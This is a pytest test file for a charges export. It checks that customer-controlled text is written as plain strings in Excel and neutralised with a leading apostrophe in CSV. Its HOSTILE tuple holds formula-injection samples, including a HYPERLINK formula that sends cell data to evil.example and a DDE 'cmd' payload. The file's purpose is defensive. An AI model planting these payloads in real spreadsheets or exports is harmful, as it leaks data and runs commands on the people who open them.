"""The charges export never hands a spreadsheet a formula: customer- and merchant-controlled text
(description, billing name and email, metadata) is a string cell in Excel and is neutralised
with a leading `'` in CSV, while amounts (negative ones too) stay exact numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy.engine import Engine

from lib.finance import ChargeFilters, charges_csv, charges_xlsx
from lib.finance.formula_guard import csv_text
from lib.sync import write_objects
from tests.mirror_support import charge_object

NOW = datetime(2026, 11, 15, 12, 0, tzinfo=UTC)
ACCOUNT = "demo"
ALL = ChargeFilters(preset="all")
# The examples: each one is a live formula (or hides one) when opened in a spreadsheet.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
)
TEXT_COLUMNS = ("description", "customer_name", "customer_email")


def hostile_charge(number: int, text: str) -> dict[str, Any]:
    return charge_object(
        f"ch_hostile_{number}",
        1999,
        "usd",
        created=int(NOW.timestamp()) - number * 60,
        description=text,
        billing_details={"email": text, "name": text},
        metadata={"note": text, text: "as a key"},
    )


CHARGES = [hostile_charge(number, text) for number, text in enumerate(HOSTILE)]


@pytest.fixture
def mirrored(engine: Engine) -> Engine:
    """A migrated database per backend holding the hostile charges."""
    with engine.begin() as connection:
        write_objects(connection, ACCOUNT, "charges", CHARGES, int(NOW.timestamp()))
    return engine


def charges_sheet(engine: Engine) -> Worksheet:
    """The Excel export's Charges sheet, read back with openpyxl."""
    return openpyxl.load_workbook(io.BytesIO(charges_xlsx(engine, ACCOUNT, ALL, NOW)))["Charges"]


def sheet_rows(sheet: Worksheet) -> list[dict[str, Cell]]:
    """Each row below the header as {column name: cell}."""
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_excel_writes_every_text_cell_as_a_string_never_a_formula(mirrored: Engine) -> None:
    sheet = charges_sheet(mirrored)

    rows = sheet_rows(sheet)
    assert len(rows) == len(HOSTILE)
    for text, row in zip(HOSTILE, rows, strict=True):
        shown = text.replace("\r", "\n")  # XML stores a carriage return as a line feed
        for name in TEXT_COLUMNS:
            assert (row[name].data_type, row[name].value) == ("s", shown), name
        assert row["metadata"].data_type == "s"
        assert json.loads(row["metadata"].value) == {"note": text, text: "as a key"}
        assert (row["amount"].data_type, row["amount"].value) == ("n", 19.99)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_amounts_numbers(
    mirrored: Engine,
) -> None:
    rows = list(csv.DictReader(io.StringIO(charges_csv(mirrored, ACCOUNT, ALL, NOW).decode())))

    assert len(rows) == len(HOSTILE)
    for text, row in zip(HOSTILE, rows, strict=True):
        for name in TEXT_COLUMNS:
            assert row[name] == "'" + text, name
        assert json.loads(row["metadata"]) == {"note": text, text: "as a key"}
        assert (row["amount"], row["currency"]) == ("19.99", "USD")


def test_only_text_that_starts_a_formula_is_prefixed() -> None:
    assert [csv_text(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert csv_text("Latte = coffee + milk") == "Latte = coffee + milk"
    assert csv_text("ana@example.com") == "ana@example.com"
    assert csv_text("") == ""


def test_negative_amounts_stay_numbers_in_both_formats(sqlite_engine: Engine) -> None:
    refund_like = {**hostile_charge(0, "Adjustment"), "amount": -2500, "amount_refunded": -100}
    with sqlite_engine.begin() as connection:
        write_objects(connection, ACCOUNT, "charges", [refund_like], int(NOW.timestamp()))

    (row,) = csv.DictReader(io.StringIO(charges_csv(sqlite_engine, ACCOUNT, ALL, NOW).decode()))
    cells = sheet_rows(charges_sheet(sqlite_engine))[0]

    assert (row["amount"], row["amount_refunded"]) == ("-25.00", "-1.00")
    assert Decimal(row["amount"]) == Decimal("-25")
    assert (cells["amount"].data_type, cells["amount"].value) == ("n", -25)


def test_excel_keeps_text_with_control_characters_instead_of_failing(
    sqlite_engine: Engine,
) -> None:
    with sqlite_engine.begin() as connection:
        write_objects(
            connection,
            ACCOUNT,
            "charges",
            [hostile_charge(0, "Order\x01 7\x1b[31m")],
            int(NOW.timestamp()),
        )

    cells = sheet_rows(charges_sheet(sqlite_engine))[0]

    assert cells["description"].value == "Order\ufffd 7\ufffd[31m"
